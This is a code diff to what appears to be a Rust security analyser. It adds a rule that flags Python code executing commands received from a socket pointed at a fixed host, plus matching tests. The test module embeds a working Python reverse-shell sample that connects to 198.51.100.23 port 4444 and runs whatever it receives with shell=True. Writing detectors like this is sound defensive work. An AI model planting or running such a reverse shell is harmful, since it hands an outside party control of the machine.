@@ -531,6 +531,9 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
     } else {
         sink
     };
+    let remote_shell_peer = (sink == SinkKind::Process && shell_command)
+        .then(|| checker.fixed_socket_peer.clone())
+        .flatten();
     let Some((source, severity)) = found
         .into_iter()
         .filter_map(|index| checker.sources.get(index).cloned())
@@ -568,6 +571,15 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
             {
                 severity = severity.max(0.7);
             }
+            // `cmd = s.recv(1024); subprocess.run(cmd, shell=True)` on a socket the code
+            // points at a host of its own choosing: whoever runs that host has a shell here,
+            // whenever the function runs.
+            if remote_shell_peer.is_some() && is_socket_data(&source) {
+                severity = severity.max(match judged_in {
+                    ExecContext::TestOrDocs => 0.2,
+                    _ => 0.8,
+                });
+            }
             if fills_bot_secret && source.label.starts_with("environment variable ") {
                 severity = severity.min(0.1);
             }
@@ -598,6 +610,12 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         Some(tool) => format!("{destination}, a name lookup by `{tool}`"),
         None => destination,
     };
+    let destination = match &remote_shell_peer {
+        Some(peer) if is_socket_data(&source) => {
+            format!("{destination}, a shell for whoever runs {peer}")
+        }
+        _ => destination,
+    };
     checker.report(
         &RULE,
         call.range(),
@@ -614,6 +632,11 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         severity,
         vec!["flow", flow_tag(source.kind, sink)],
     );
+}
+
+/// True for data a raw socket received.
+fn is_socket_data(source: &SourceRef) -> bool {
+    source.kind == SourceKind::Network && source.label.starts_with("response of socket.")
 }
 
 /// Writes to the process's own output streams: what a CI runner keeps in the job's log.
@@ -1051,6 +1074,29 @@ mod tests {
         // Another class's `path` attribute is its own.
         let other = "import os\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        pass\nclass Build:\n    def run(self):\n        os.system(self.path)\n";
         assert!(max_severity("p/pkg/srv.py", other, "WH200") < 0.3);
+    }
+
+    #[test]
+    fn commands_received_from_a_socket_the_code_points_at_a_fixed_host_are_a_remote_shell() {
+        let shell = "import socket, subprocess\ndef connect():\n    s = socket.socket()\n    s.connect(('198.51.100.23', 4444))\n    while True:\n        cmd = s.recv(1024).decode()\n        out = subprocess.run(cmd, shell=True, capture_output=True)\n        s.send(out.stdout)\n";
+        assert!(max_severity("p/pkg/net.py", shell, "WH200") >= 0.8);
+        let message = findings("p/pkg/net.py", shell)
+            .into_iter()
+            .find(|f| f.rule == "WH200")
+            .map(|f| f.message)
+            .unwrap_or_default();
+        assert!(
+            message.contains("a shell for whoever runs 198.51.100.23"),
+            "{message}"
+        );
+        // The machine's own service, or a host the caller gives, is no one else's shell.
+        let local = shell.replace("198.51.100.23", "127.0.0.1");
+        assert!(max_severity("p/pkg/net.py", &local, "WH200") < 0.5);
+        let given = "import socket, subprocess\ndef serve(host, port):\n    s = socket.create_connection((host, port))\n    cmd = s.recv(1024).decode()\n    subprocess.run(cmd, shell=True)\n";
+        assert!(max_severity("p/pkg/net.py", given, "WH200") < 0.5);
+        // A program the code chose, given the received value as one argument, is no shell.
+        let argument = "import socket, subprocess\ndef probe():\n    s = socket.create_connection(('198.51.100.23', 7))\n    n = s.recv(16).decode()\n    subprocess.run(['ping', '-c', n, 'example.org'])\n";
+        assert!(max_severity("p/pkg/net.py", argument, "WH200") < 0.5);
     }
 
     #[test]
